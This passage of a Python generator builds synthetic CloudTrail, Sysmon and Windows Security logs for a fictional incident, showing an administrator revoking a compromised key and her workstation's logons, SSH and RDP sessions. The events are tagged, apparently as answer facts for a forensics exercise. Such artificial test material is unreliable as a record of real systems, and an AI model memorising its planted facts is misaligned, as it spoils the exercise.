    # ---- response: alice, from her workstation (through the NAT) ----
    t = at("2026-03-14 09:27:40")
    al = console(t)
    tr.add(at("2026-03-14 09:28:55"), al, "cloudtrail.amazonaws.com",
           "LookupEvents", REGION, NAT_IP, "AWS Internal",
           req={"lookupAttributes": [{"attributeKey": "Username",
                                      "attributeValue": "backup-bot"}],
                "maxResults": 50},
           host=f"cloudtrail.{REGION}.amazonaws.com", console=True)
    tr.add(at("2026-03-14 09:30:12"), al, "iam.amazonaws.com", "ListAccessKeys",
           "us-east-1", NAT_IP, "AWS Internal", req={"userName": "backup-bot"},
           host="iam.amazonaws.com", console=True)
    tr.add(at("2026-03-14 09:31:48"), al, "iam.amazonaws.com", "UpdateAccessKey",
           "us-east-1", NAT_IP, "AWS Internal",
           req={"userName": "backup-bot", "accessKeyId": BACKUP_KEY,
                "status": "Inactive"},
           read_only=False, host="iam.amazonaws.com", console=True,
           tags="ct_key_inactive")
    tr.add(at("2026-03-14 09:37:15"), al, "s3.amazonaws.com", "GetBucketPolicy",
           REGION, NAT_IP, f"[{UA_S3CONSOLE}]",
           error=("NoSuchBucketPolicy", "The bucket policy does not exist"),
           req={"bucketName": BUCKET, "Host": S3_HOST, "policy": ""},
           extra=tr.s3_extra(bytes_out=324), resources=s3_resources(),
           host=S3_HOST, console=True, tags="ct_policy_check")
    tr.add(at("2026-03-14 09:39:05"), al, "iam.amazonaws.com", "DeleteAccessKey",
           "us-east-1", NAT_IP, "AWS Internal",
           req={"userName": "backup-bot", "accessKeyId": BACKUP_KEY},
           read_only=False, host="iam.amazonaws.com", console=True,
           tags="ct_key_deleted")
    return tr.render()


# ---- Windows events from WS-ALICE (NXLog -> JSON lines, OTRF style) --------

WS_HOST = "WS-ALICE.acme.local"
WS_MACHINE = "7c5e2a91"            # first group of every Sysmon GUID here
WS_BOOT = at("2026-03-10 07:12:40.551230")
WEC_HOST = "wec-01.acme.local"
ALICE_SID = "S-1-5-21-2847163920-1093385712-3810437766-1104"
SYSMON_PID, LSASS_PID = 3012, 812
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
CH_SYSMON = "Microsoft-Windows-Sysmon/Operational"
CH_SECURITY = "Security"
SYSMON_META = {  # EventID: (version, category)
    1: (5, "Process Create (rule: ProcessCreate)"),
    3: (5, "Network connection detected (rule: NetworkConnect)"),
    5: (3, "Process terminated (rule: ProcessTerminate)"),
    11: (2, "File created (rule: FileCreate)"),
    22: (5, "Dns query (rule: DnsQuery)"),
}
SECURITY_META = {  # EventID: (version, task, category)
    4624: (2, 12544, "Logon"), 4634: (0, 12545, "Logoff"),
    4647: (0, 12545, "Logoff"), 4672: (0, 12548, "Special Logon"),
    4688: (2, 13312, "Process Creation"),
    4779: (0, 12551, "Other Logon/Logoff Events"),
}
MS_OS = "Microsoft\u00ae Windows\u00ae Operating System"
WIN_IMAGES = {  # key: (image, description, product, company, file version, original name)
    "powershell": (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                   "Windows PowerShell", MS_OS, "Microsoft Corporation",
                   "10.0.26100.3323 (WinBuild.160101.0800)", "PowerShell.EXE"),
    "ssh": (r"C:\Windows\System32\OpenSSH\ssh.exe", "OpenSSH SSH client",
            "OpenSSH for Windows", "Microsoft Corporation", "9.5.4.1", "ssh.exe"),
    "wt": (r"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.22.10731.0"
           r"_x64__8wekyb3d8bbwe\WindowsTerminal.exe", "Windows Terminal",
           "Windows Terminal", "Microsoft Corporation", "1.22.2502.03002",
           "WindowsTerminal.exe"),
    "msedge": (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
               "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation",
               "145.0.3800.70", "msedge.exe"),
    "outlook": (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
                "Microsoft Outlook", "Microsoft Office", "Microsoft Corporation",
                "16.0.19127.20222", "Outlook.exe"),
    "teams": (r"C:\Program Files\WindowsApps\MSTeams_25335.1006.4178.3512_x64__"
              r"8wekyb3d8bbwe\ms-teams.exe", "Microsoft Teams", "Microsoft Teams",
              "Microsoft Corporation", "25335.1006.4178.3512", "ms-teams.exe"),
    "userinit": (r"C:\Windows\System32\userinit.exe", "Userinit Logon Application",
                 MS_OS, "Microsoft Corporation",
                 "10.0.26100.1 (WinBuild.160101.0800)", "USERINIT.EXE"),
    "explorer": (r"C:\Windows\explorer.exe", "Windows Explorer", MS_OS,
                 "Microsoft Corporation", "10.0.26100.3323 (WinBuild.160101.0800)",
                 "EXPLORER.EXE"),
    "notepad": (r"C:\Windows\System32\notepad.exe", "Notepad", MS_OS,
                "Microsoft Corporation", "10.0.26100.3037 (WinBuild.160101.0800)",
                "NOTEPAD.EXE"),
    "rdpclip": (r"C:\Windows\System32\rdpclip.exe", "RDP Clipboard Monitor", MS_OS,
                "Microsoft Corporation", "10.0.26100.1 (WinBuild.160101.0800)",
                "rdpclip.exe"),
    "mpcmdrun": (r"C:\ProgramData\Microsoft\Windows Defender\Platform"
                 r"\4.18.25010.11-0\MpCmdRun.exe",
                 "Microsoft Malware Protection Command Line Utility", MS_OS,
                 "Microsoft Corporation", "4.18.25010.11 (WinBuild.160101.0800)",
                 "MpCmdRun.exe"),
    "edgeupdate": (r"C:\Program Files (x86)\Microsoft\EdgeUpdate"
                   r"\MicrosoftEdgeUpdate.exe", "Microsoft Edge Update",
                   "Microsoft Edge Update", "Microsoft Corporation", "1.3.195.43",
                   "MicrosoftEdgeUpdate.exe"),
}
YES_NO = {"%%1842": "Yes", "%%1843": "No"}
ADMIN_PRIVS = ["SeSecurityPrivilege", "SeTakeOwnershipPrivilege",
               "SeLoadDriverPrivilege", "SeBackupPrivilege", "SeRestorePrivilege",
               "SeDebugPrivilege", "SeSystemEnvironmentPrivilege",
               "SeImpersonatePrivilege",
               "SeDelegateSessionUserImpersonatePrivilege"]

MSG_4624_TAIL = (
    "This event is generated when a logon session is created. It is generated "
    "on the computer that was accessed.\r\n\r\nThe subject fields indicate the "
    "account on the local system which requested the logon. This is most "
    "commonly a service such as the Server service, or a local process such as "
    "Winlogon.exe or Services.exe.\r\n\r\nThe logon type field indicates the "
    "kind of logon that occurred. The most common types are 2 (interactive) and "
    "3 (network).\r\n\r\nThe New Logon fields indicate the account for whom the "
    "new logon was created, i.e. the account that was logged on.\r\n\r\nThe "
    "network fields indicate where a remote logon request originated. "
    "Workstation name is not always available and may be left blank in some "
    "cases.\r\n\r\nThe impersonation level field indicates the extent to which "
    "a process in the logon session can impersonate.\r\n\r\nThe authentication "
    "information fields provide detailed information about this specific logon "
    "request.\r\n\t- Logon GUID is a unique identifier that can be used to "
    "correlate this event with a KDC event.\r\n\t- Transited services indicate "
    "which intermediate services have participated in this logon request.\r\n\t"
    "- Package name indicates which sub-protocol was used among the NTLM "
    "protocols.\r\n\t- Key length indicates the length of the generated session "
    "key. This will be 0 if no session key was requested.")
MSG_4688_TAIL = (
    "Token Elevation Type indicates the type of token that was assigned to the "
    "new process in accordance with User Account Control policy.\r\n\r\nType 1 "
    "is a full token with no privileges removed or groups disabled.  A full "
    "token is only used if User Account Control is disabled or if the user is "
    "the built-in Administrator account or a service account.\r\n\r\nType 2 is "
    "an elevated token with no privileges removed or groups disabled.  An "
    "elevated token is used when User Account Control is enabled and the user "
    "chooses to start the program using Run as administrator.  An elevated "
    "token is also used when an application is configured to always require "
    "administrative privilege or to always require maximum privilege, and the "
    "user is a member of the Administrators group.\r\n\r\nType 3 is a limited "
    "token with administrative privileges removed and administrative groups "
    "disabled.  The limited token is used when User Account Control is enabled, "
    "the application does not require administrative privilege, and the user "
    "does not choose to start the program using Run as administrator.")


SYS32_DIR = "C:\\Windows\\system32\\"
HOME_DIR = "C:\\Users\\alice\\"


def hexid(n: int) -> str:
    return f"0x{n:x}"


def sysmon_time(ts: datetime) -> str:
    return f"{ts:%Y-%m-%d %H:%M:%S}.{ts.microsecond // 1000:03d}"


def win_guid(ts: datetime, mid: int, tail: str) -> str:
    u = int(ts.timestamp())
    return (f"{{{WS_MACHINE}-{u & 0xFFFF:04x}-{u >> 16:04x}-"
            f"{mid.to_bytes(2, 'little').hex()}-{tail}}}")


@dataclass
class WinLogon:
    user: str          # DOMAIN\name, as Sysmon writes it
    sid: str
    name: str
    domain: str
    logon_id: int
    guid: str
    session: int
    integrity: str
    elevation: str     # TokenElevationType of its processes
    label: str         # MandatoryLabel of its processes


@dataclass
class WinProc:
    guid: str
    pid: int
    image: str
    cmd: str
    logon: WinLogon


class WinLog:
    def __init__(self):
        self.rng = R("sysmon")
        self.events = []        # [true ts, order, channel, eid, fields, message, tags]
        self.seq = 0x0a41       # Sysmon's process counter (3rd GUID group)
        self.used_pids = set()

    def ev(self, ts, channel, eid, fields, message=None, tags=()):
        if isinstance(tags, str):
            tags = (tags,)
        self.events.append([ts, len(self.events), channel, eid, fields, message,
                            tuple(tags)])

    def new_pid(self) -> int:
        while True:
            p = self.rng.randint(300, 4000) * 4
            if p not in self.used_pids:
                self.used_pids.add(p)
                return p

    def hashes(self, image: str) -> str:
        sha = hashlib.sha256(f"{SEED}:{image}".encode()).hexdigest().upper()
        imp = hashlib.sha256(f"{SEED}:imp:{image}".encode()).hexdigest()[:32].upper()
        return f"SHA256={sha},IMPHASH={imp}"

    def process(self, ts, key, cmd, parent: WinProc, logon: WinLogon, cwd,
                rule="-", tags=()) -> WinProc:
        image, desc, product, company, version, orig = WIN_IMAGES[key]
        self.seq += 1
        p = WinProc(win_guid(ts, self.seq, "000000000c00"), self.new_pid(),
                    image, cmd, logon)
        self.ev(ts - sec(0.002), CH_SECURITY, 4688, {
            "SubjectUserSid": logon.sid if logon.session else "S-1-5-18",
            "SubjectUserName": logon.name, "SubjectDomainName": logon.domain,
            "SubjectLogonId": hexid(logon.logon_id),
            "NewProcessId": hexid(p.pid), "NewProcessName": image,
            "TokenElevationType": logon.elevation, "ProcessId": hexid(parent.pid),
            "CommandLine": cmd, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
            "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": parent.image, "MandatoryLabel": logon.label,
        }, self.msg_4688(logon, p, parent), tags)
        self.ev(ts, CH_SYSMON, 1, {
            "RuleName": rule, "UtcTime": sysmon_time(ts), "ProcessGuid": p.guid,
            "ProcessId": str(p.pid), "Image": image, "FileVersion": version,
            "Description": desc, "Product": product, "Company": company,
            "OriginalFileName": orig, "CommandLine": cmd, "CurrentDirectory": cwd,
            "User": logon.user, "LogonGuid": logon.guid,
            "LogonId": hexid(logon.logon_id),
            "TerminalSessionId": str(logon.session),
            "IntegrityLevel": logon.integrity, "Hashes": self.hashes(image),
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid),
            "ParentImage": parent.image, "ParentCommandLine": parent.cmd,
            "ParentUser": parent.logon.user,
        }, None, tags)
        return p

    def exit(self, ts, p: WinProc, tags=()):
        self.ev(ts, CH_SYSMON, 5, {
            "RuleName": "-", "UtcTime": sysmon_time(ts), "ProcessGuid": p.guid,
            "ProcessId": str(p.pid), "Image": p.image, "User": p.logon.user,
        }, None, tags)

    @staticmethod
    def msg_4688(lg: WinLogon, p: WinProc, parent: WinProc) -> str:
        sid = lg.sid if lg.session else "S-1-5-18"
        return ("A new process has been created.\r\n\r\nCreator Subject:\r\n"
                f"\tSecurity ID:\t\t{sid}\r\n\tAccount Name:\t\t{lg.name}\r\n"
                f"\tAccount Domain:\t\t{lg.domain}\r\n"
                f"\tLogon ID:\t\t0x{lg.logon_id:X}\r\n\r\nTarget Subject:\r\n"
                "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n"
                "\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\n"
                "Process Information:\r\n"
                f"\tNew Process ID:\t\t{hexid(p.pid)}\r\n"
                f"\tNew Process Name:\t{p.image}\r\n"
                f"\tToken Elevation Type:\t{lg.elevation}\r\n"
                f"\tMandatory Label:\t\t{lg.label}\r\n"
                f"\tCreator Process ID:\t{hexid(parent.pid)}\r\n"
                f"\tCreator Process Name:\t{parent.image}\r\n"
                f"\tProcess Command Line:\t{p.cmd}\r\n\r\n" + MSG_4688_TAIL)

    def logon(self, ts, ltype, lg: WinLogon, linked: int, elevated: bool,
              ip="127.0.0.1", port="0", ntlm=False, workstation="WS-ALICE",
              tags=()):
        if ntlm:
            subj = ("S-1-0-0", "-", "-", "0x0")
            proc_id, proc_name, lproc, auth = "0x0", "-", "NtLmSsp ", "NTLM"
            lm, keylen, guid = "NTLM V2", "128", "{00000000-0000-0000-0000-000000000000}"
        else:
            subj = ("S-1-5-18", "WS-ALICE$", "ACME", "0x3e7")
            proc_id, proc_name = "0x4f8", r"C:\Windows\System32\svchost.exe"
            lproc, auth, lm, keylen = "User32 ", "Negotiate", "-", "0"
            guid = "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}"
        elev = "%%1842" if elevated else "%%1843"
        restricted = "%%1843" if ltype == 10 else "-"
        f = {
            "SubjectUserSid": subj[0], "SubjectUserName": subj[1],
            "SubjectDomainName": subj[2], "SubjectLogonId": subj[3],
            "TargetUserSid": ALICE_SID, "TargetUserName": "alice",
            "TargetDomainName": "ACME", "TargetLogonId": hexid(lg.logon_id),
            "LogonType": str(ltype), "LogonProcessName": lproc,
            "AuthenticationPackageName": auth, "WorkstationName": workstation,
            "LogonGuid": guid, "TransmittedServices": "-", "LmPackageName": lm,
            "KeyLength": keylen, "ProcessId": proc_id, "ProcessName": proc_name,
            "IpAddress": ip, "IpPort": port, "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": restricted, "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": hexid(linked), "ElevatedToken": elev,
        }
        msg = ("An account was successfully logged on.\r\n\r\nSubject:\r\n"
               f"\tSecurity ID:\t\t{subj[0]}\r\n\tAccount Name:\t\t{subj[1]}\r\n"
               f"\tAccount Domain:\t\t{subj[2]}\r\n\tLogon ID:\t\t"
               f"{subj[3].upper().replace('0X', '0x')}\r\n\r\n"
               "Logon Information:\r\n"
               f"\tLogon Type:\t\t{ltype}\r\n"
               f"\tRestricted Admin Mode:\t{YES_NO.get(restricted, '-')}\r\n"
               "\tVirtual Account:\t\tNo\r\n"
               f"\tElevated Token:\t\t{YES_NO[elev]}\r\n\r\n"
               "Impersonation Level:\t\tImpersonation\r\n\r\nNew Logon:\r\n"
               f"\tSecurity ID:\t\t{ALICE_SID}\r\n\tAccount Name:\t\talice\r\n"
               "\tAccount Domain:\t\tACME\r\n"
               f"\tLogon ID:\t\t0x{lg.logon_id:X}\r\n"
               f"\tLinked Logon ID:\t\t0x{linked:X}\r\n"
               "\tNetwork Account Name:\t-\r\n\tNetwork Account Domain:\t-\r\n"
               f"\tLogon GUID:\t\t{guid}\r\n\r\nProcess Information:\r\n"
               f"\tProcess ID:\t\t{proc_id}\r\n\tProcess Name:\t\t{proc_name}"
               "\r\n\r\nNetwork Information:\r\n"
               f"\tWorkstation Name:\t{workstation}\r\n"
               f"\tSource Network Address:\t{ip}\r\n\tSource Port:\t\t{port}"
               "\r\n\r\nDetailed Authentication Information:\r\n"
               f"\tLogon Process:\t\t{lproc}\r\n"
               f"\tAuthentication Package:\t{auth}\r\n"
               "\tTransited Services:\t-\r\n"
               f"\tPackage Name (NTLM only):\t{lm}\r\n"
               f"\tKey Length:\t\t{keylen}\r\n\r\n" + MSG_4624_TAIL)
        self.ev(ts, CH_SECURITY, 4624, f, msg, tags)

    def special(self, ts, logon_id: int):
        privs = "\r\n\t\t\t".join(ADMIN_PRIVS)
        self.ev(ts, CH_SECURITY, 4672, {
            "SubjectUserSid": ALICE_SID, "SubjectUserName": "alice",
            "SubjectDomainName": "ACME", "SubjectLogonId": hexid(logon_id),
            "PrivilegeList": privs,
        }, "Special privileges assigned to new logon.\r\n\r\nSubject:\r\n"
           f"\tSecurity ID:\t\t{ALICE_SID}\r\n\tAccount Name:\t\talice\r\n"
           f"\tAccount Domain:\t\tACME\r\n\tLogon ID:\t\t0x{logon_id:X}\r\n\r\n"
           f"Privileges:\t\t{privs}")

    def logoff(self, ts, logon_id: int, ltype: int):
        self.ev(ts, CH_SECURITY, 4634, {
            "TargetUserSid": ALICE_SID, "TargetUserName": "alice",
            "TargetDomainName": "ACME", "TargetLogonId": hexid(logon_id),
            "LogonType": str(ltype),
        }, "An account was logged off.\r\n\r\nSubject:\r\n"
           f"\tSecurity ID:\t\t{ALICE_SID}\r\n\tAccount Name:\t\talice\r\n"
           f"\tAccount Domain:\t\tACME\r\n\tLogon ID:\t\t0x{logon_id:X}\r\n\r\n"
           f"Logon Type:\t\t\t{ltype}\r\n\r\nThis event is generated when a "
           "logon session is destroyed. It may be positively correlated with a "
           "logon event using the Logon ID value. Logon IDs are only unique "
           "between reboots on the same computer.")

    def user_logoff(self, ts, logon_id: int):
        self.ev(ts, CH_SECURITY, 4647, {
            "TargetUserSid": ALICE_SID, "TargetUserName": "alice",
            "TargetDomainName": "ACME", "TargetLogonId": hexid(logon_id),
        }, "User initiated logoff:\r\n\r\nSubject:\r\n"
           f"\tSecurity ID:\t\t{ALICE_SID}\r\n\tAccount Name:\t\talice\r\n"
           f"\tAccount Domain:\t\tACME\r\n\tLogon ID:\t\t0x{logon_id:X}\r\n\r\n"
           "This event is generated when a logoff is initiated. No further "
           "user-initiated activity can occur. This event can be interpreted "
           "as a logoff event.")

    def render(self):
        rng = self.rng
        # record numbers in the order the events were written on the host
        rec = {CH_SYSMON: 4_182_204, CH_SECURITY: 1_204_377}
        rows = []
        for e in sorted(self.events, key=lambda e: (e[0], e[1])):
            ts, order, ch, eid, fields, msg, tags = e
            rec[ch] += rng.randint(1, 3) if ch == CH_SYSMON else rng.randint(1, 9)
            recv = ts + timedelta(milliseconds=rng.randint(1000, 3000))
            recv = recv.replace(microsecond=recv.microsecond // 1000 * 1000)
            loc = ts.astimezone(CET)
            head = {"EventTime": f"{loc:%Y-%m-%d %H:%M:%S}", "Hostname": WS_HOST}
            if ch == CH_SYSMON:
                version, cat = SYSMON_META[eid]
                head.update({
                    "Keywords": -9223372036854775808, "EventType": "INFO",
                    "SeverityValue": 2, "Severity": "INFO", "EventID": eid,
                    "SourceName": "Microsoft-Windows-Sysmon",
                    "ProviderGuid": SYSMON_GUID, "Version": version, "Task": eid,
                    "OpcodeValue": 0, "RecordNumber": rec[ch],
                    "ExecutionProcessID": SYSMON_PID,
                    "ThreadID": rng.choice([4120, 4124, 5388]), "Channel": ch,
                    "Domain": "NT AUTHORITY", "AccountName": "SYSTEM",
                    "UserID": "S-1-5-18", "AccountType": "User",
                    "Category": cat, "Opcode": "Info"})
            else:
                version, task, cat = SECURITY_META[eid]
                head.update({
                    "Keywords": -9214364837600034816, "EventType": "AUDIT_SUCCESS",
                    "SeverityValue": 2, "Severity": "INFO", "EventID": eid,
                    "SourceName": "Microsoft-Windows-Security-Auditing",
                    "ProviderGuid": SECURITY_GUID, "Version": version,
                    "Task": task, "OpcodeValue": 0, "RecordNumber": rec[ch],
                    "ExecutionProcessID": LSASS_PID,
                    "ThreadID": rng.choice([868, 6204, 7316]), "Channel": ch,
                    "Category": cat, "Opcode": "Info"})
            d = dict(head)
            d.update(fields)
            if msg is not None:
                d["Message"] = msg
            rloc = recv.astimezone(CET)
            d.update({"EventReceivedTime": f"{rloc:%Y-%m-%d %H:%M:%S}",
                      "SourceModuleName": "eventlog",
                      "SourceModuleType": "im_msvistalog", "host": WEC_HOST,
                      "port": 51044, "@version": "1",
                      "@timestamp": f"{recv:%Y-%m-%dT%H:%M:%S}."
                                    f"{recv.microsecond // 1000:03d}Z"})
            rows.append((recv, ts, order, json.dumps(
                d, ensure_ascii=False, separators=(",", ":")), tags))
        rows.sort(key=lambda r: (r[0], r[1], r[2]))
        tagged: dict[str, list] = {}
        for n, r in enumerate(rows, 1):
            for tg in r[4]:
                tagged.setdefault(tg, []).append((F_SYSMON, n))
        return "\n".join(r[3] for r in rows) + "\n", tagged


def workstation(ctx: Context):
    w = WinLog()
    rng = w.rng
    system = WinLogon("NT AUTHORITY\\SYSTEM", "S-1-5-18", "WS-ALICE$", "ACME",
                      0x3E7, win_guid(WS_BOOT, 0x03E7, "000000000000"), 0,
                      "System", "%%1936", "S-1-16-16384")
    boot = WS_BOOT + sec(9.2)
    sched = WinProc(win_guid(boot, 0x0021, "000000000c00"), 1948,
                    r"C:\Windows\System32\svchost.exe",
                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                    system)
    termsvc = WinProc(win_guid(boot, 0x0027, "000000000c00"), 1232,
                      r"C:\Windows\System32\svchost.exe",
                      r"C:\Windows\System32\svchost.exe -k NetworkService -s "
                      "TermService", system)

    # background: Defender signature updates, Edge updates (SYSTEM)
    t = at("2026-03-11 19:43:10")
    while t < END:
        j = t + sec(rng.randint(0, 900) + rng.random())
        img = WIN_IMAGES["mpcmdrun"][0]
        p = w.process(j, "mpcmdrun", f'"{img}" SignatureUpdate -ScheduleJob '
                      "-RestrictPrivileges -DailyReschedule", sched, system,
                      SYS32_DIR)
        w.exit(j + sec(rng.uniform(8, 45)), p)
        t += timedelta(hours=6)
    for ts in ("2026-03-12 03:17:44.120981", "2026-03-13 15:02:09.870112",
               "2026-03-14 11:26:51.300456"):
        j = at(ts)
        img = WIN_IMAGES["edgeupdate"][0]
        p = w.process(j, "edgeupdate", f'"{img}" /ua /installsource scheduler',
                      sched, system, SYS32_DIR)
        w.exit(j + sec(rng.uniform(3, 12)), p)

    def alice_logon(ts, session, ltype, ip="127.0.0.1", tags=()):
        limited = rng.randint(0x2000000, 0x4000000)
        elevated = limited - rng.randint(2, 40)
        lg = WinLogon("ACME\\alice", ALICE_SID, "alice", "ACME", limited,
                      win_guid(ts, limited & 0xFFFF, f"{limited >> 16:04x}00000000"),
                      session, "Medium", "%%1938", "S-1-16-8192")
        elev = WinLogon(lg.user, lg.sid, lg.name, lg.domain, elevated, lg.guid,
                        session, "High", "%%1937", "S-1-16-12288")
        w.logon(ts, ltype, elev, limited, True, ip=ip, tags=tags)
        w.logon(ts + sec(0.001), ltype, lg, elevated, False, ip=ip, tags=tags)
        w.special(ts + sec(0.001), elevated)
        winlogon = WinProc(win_guid(ts - sec(2), 0x0a00 + session, "000000000c00"),
                           rng.randint(150, 250) * 4,
                           r"C:\Windows\System32\winlogon.exe", "winlogon.exe",
                           system)
        ui = w.process(ts + sec(1.6), "userinit",
                       r"C:\Windows\system32\userinit.exe", winlogon, lg,
                       SYS32_DIR)
        ex = w.process(ts + sec(2.3), "explorer", r"C:\Windows\Explorer.EXE", ui,
                       lg, SYS32_DIR)
        return lg, elev, ex

    home = HOME_DIR
    days = [(at("2026-03-12 07:48:13.402118"), at("2026-03-12 17:34:50.118274")),
            (at("2026-03-13 07:55:40.771093"), at("2026-03-13 16:58:03.450219"))]
    for k, (t_on, t_off) in enumerate(days):
        lg, elev, ex = alice_logon(t_on, 1, 2)
        for off, key, cmd in [
                (49, "outlook", '"C:\\Program Files\\Microsoft Office\\root\\'
                 'Office16\\OUTLOOK.EXE" '),
                (57, "teams", '"' + WIN_IMAGES["teams"][0] + '" msteams:'
                 'system-initiated'),
                (86, "msedge", '"' + WIN_IMAGES["msedge"][0] + '" '
                 '--profile-directory=Default')]:
            w.process(t_on + sec(off + rng.random()), key, cmd, ex, lg, home)
        sessions = [s for s in ctx.alice_ssh if s[0].date() == t_on.date()]
        first = sessions[0][0]
        wt = w.process(first - sec(rng.uniform(90, 150)), "wt",
                       '"' + WIN_IMAGES["wt"][0] + '"', ex, lg, home)
        ps = w.process(first - sec(rng.uniform(40, 80)),
                       "powershell", '"' + WIN_IMAGES["powershell"][0] + '"', wt,
                       lg, home, rule="technique_id=T1059.001,technique_name="
                       "PowerShell")
        for acc, port, disc in sessions:
            ssh_run(w, rng, acc, port, disc, ps, lg, "-A bastion-01")
        if k == 0:
            w.process(at("2026-03-12 13:12:40.330918"), "notepad",
                      r'"C:\Windows\System32\notepad.exe" C:\Users\alice'
                      r"\Documents\oncall-handover.txt", ex, lg, home)
        w.user_logoff(t_off, lg.logon_id)
        w.logoff(t_off + sec(0.41), lg.logon_id, 2)
        w.logoff(t_off + sec(0.43), elev.logon_id, 2)

    # ---- Saturday: on call, from home over the VPN, RDP to her workstation ----
    t = at("2026-03-14 08:39:09.812044")
    nla = rng.randint(0x5000000, 0x5800000)
    nla_lg = WinLogon("ACME\\alice", ALICE_SID, "alice", "ACME", nla, "", 0,
                      "Medium", "%%1938", "S-1-16-8192")
    w.logon(t, 3, nla_lg, 0, True, ip=VPN_IP, port="49822", ntlm=True,
            workstation="ALICE-HOME", tags="ws_rdp")
    w.logoff(t + sec(1.1), nla, 3)
    lg, elev, ex = alice_logon(t + sec(2.4), 2, 10, ip=VPN_IP, tags="ws_rdp")
    w.process(t + sec(5.0), "rdpclip", "rdpclip", termsvc, lg, SYS32_DIR)
    acc, port, disc = [s for s in ctx.alice_ssh if s[0].day == 14][0]
    wt = w.process(at("2026-03-14 08:40:31.204470"), "wt",
                   '"' + WIN_IMAGES["wt"][0] + '"', ex, lg, home)
    ps = w.process(at("2026-03-14 08:40:32.018822"), "powershell",
                   '"' + WIN_IMAGES["powershell"][0] + '"', wt, lg, home,
                   rule="technique_id=T1059.001,technique_name=PowerShell")
    ssh_run(w, rng, acc, port, disc, ps, lg, "bastion-01", tags="ws_ssh")
    edge = w.process(at("2026-03-14 09:26:31.550217"), "msedge",
                     '"' + WIN_IMAGES["msedge"][0] + '" --profile-directory='
                     "Default https://console.aws.amazon.com/", ex, lg, home)
    dl = at("2026-03-14 09:33:40.512873")
    w.ev(dl, CH_SYSMON, 11, {
        "RuleName": "Downloads", "UtcTime": sysmon_time(dl),
        "ProcessGuid": edge.guid, "ProcessId": str(edge.pid), "Image": edge.image,
        "TargetFilename": r"C:\Users\alice\Downloads\event_history.json",
        "CreationUtcTime": sysmon_time(dl), "User": lg.user,
    }, tags="ws_download")
    gh = w.process(at("2026-03-14 09:35:02.301164"), "powershell",
                   '"' + WIN_IMAGES["powershell"][0] + '" -NoProfile -Command '
                   '"Get-FileHash -Algorithm SHA256 -Path C:\\Users\\alice\\'
                   'Downloads\\event_history.json | Format-List"', ps, lg, home,
                   rule="technique_id=T1059.001,technique_name=PowerShell",
                   tags="ws_filehash")
    w.exit(at("2026-03-14 09:35:03.877410"), gh, tags="ws_filehash")
    td = at("2026-03-14 10:02:30.661093")
    w.ev(td, CH_SECURITY, 4779, {
        "AccountName": "alice", "AccountDomain": "ACME",
        "LogonID": hexid(lg.logon_id), "SessionName": "RDP-Tcp#2",
        "ClientName": "ALICE-HOME", "ClientAddress": VPN_IP,
    }, "A session was disconnected from a Window Station.\r\n\r\nSubject:\r\n"
       "\tAccount Name:\t\talice\r\n\tAccount Domain:\t\tACME\r\n"
       f"\tLogon ID:\t\t0x{lg.logon_id:X}\r\n\r\nSession:\r\n"
       "\tSession Name:\t\tRDP-Tcp#2\r\n\r\nAdditional Information:\r\n"
       f"\tClient Name:\t\tALICE-HOME\r\n\tClient Address:\t\t{VPN_IP}\r\n\r\n"
       "This event is generated when a user disconnects from an existing "
       "Terminal Services session, or when a user switches away from an "
       "existing desktop using Fast User Switching.")
    return w.render()


def ssh_run(w: WinLog, rng, acc, port, disc, parent, lg, args, tags=()):
    """ssh.exe on the workstation for one of alice's bastion-01 logins: the
    process, its DNS query, the TCP connection (same source port as sshd
    logged) and its exit when the session ends."""
    start = acc - sec(rng.uniform(0.9, 1.5))
    p = w.process(start, "ssh", '"' + WIN_IMAGES["ssh"][0] + '" ' + args,
                  parent, lg, HOME_DIR, tags=tags)
    q = start + sec(0.031 + rng.random() * 0.02)
    w.ev(q, CH_SYSMON, 22, {
        "RuleName": "-", "UtcTime": sysmon_time(q), "ProcessGuid": p.guid,
        "ProcessId": str(p.pid), "QueryName": "bastion-01.acme.local",
        "QueryStatus": "0", "QueryResults": f"::ffff:{BASTION_IP};",
        "Image": p.image, "User": lg.user,
    }, tags=tags)
    c = q + sec(0.012 + rng.random() * 0.01)
    w.ev(c, CH_SYSMON, 3, {
        "RuleName": "technique_id=T1021.004,technique_name=SSH",
        "UtcTime": sysmon_time(c), "ProcessGuid": p.guid,
        "ProcessId": str(p.pid), "Image": p.image, "User": lg.user,
        "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
        "SourceIp": ALICE_WS, "SourceHostname": WS_HOST,
        "SourcePort": str(port), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": BASTION_IP,
        "DestinationHostname": "bastion-01.acme.local", "DestinationPort": "22",
        "DestinationPortName": "ssh",
    }, tags=tags)
    w.exit(disc + sec(0.02 + rng.random() * 0.03), p)


# --------------------------------------------------------------------------
# Build, render, facts
# --------------------------------------------------------------------------

def build() -> dict[str, str]:
    global EVENTS, _ORDER
    EVENTS = []
    _ORDER = itertools.count()
    init_world()
    cron_noise()
    web_noise()
    scanner_noise()
    admin_noise()
    brute_force()
    compromise()
    out_of_order_noise()
    malformed()
    rollover()

    by_host: dict[int, list[Event]] = {}
    for ev in EVENTS:
        by_host.setdefault(id(ev.file.host), []).append(ev)
    for host in (BASTION, WEB, DB, FRAG, EDGE):
        if host is FRAG:
            FRAG.pid_next = BASTION.pid_next + 211
            FRAG.counters["session"] = BASTION.counters["session"]
        assign_numbers(host, by_host.get(id(host), []))

    out: dict[str, str] = {}
    tagged: dict[str, list[tuple[str, int]]] = {}
    for fs in OUTPUT_FILES:
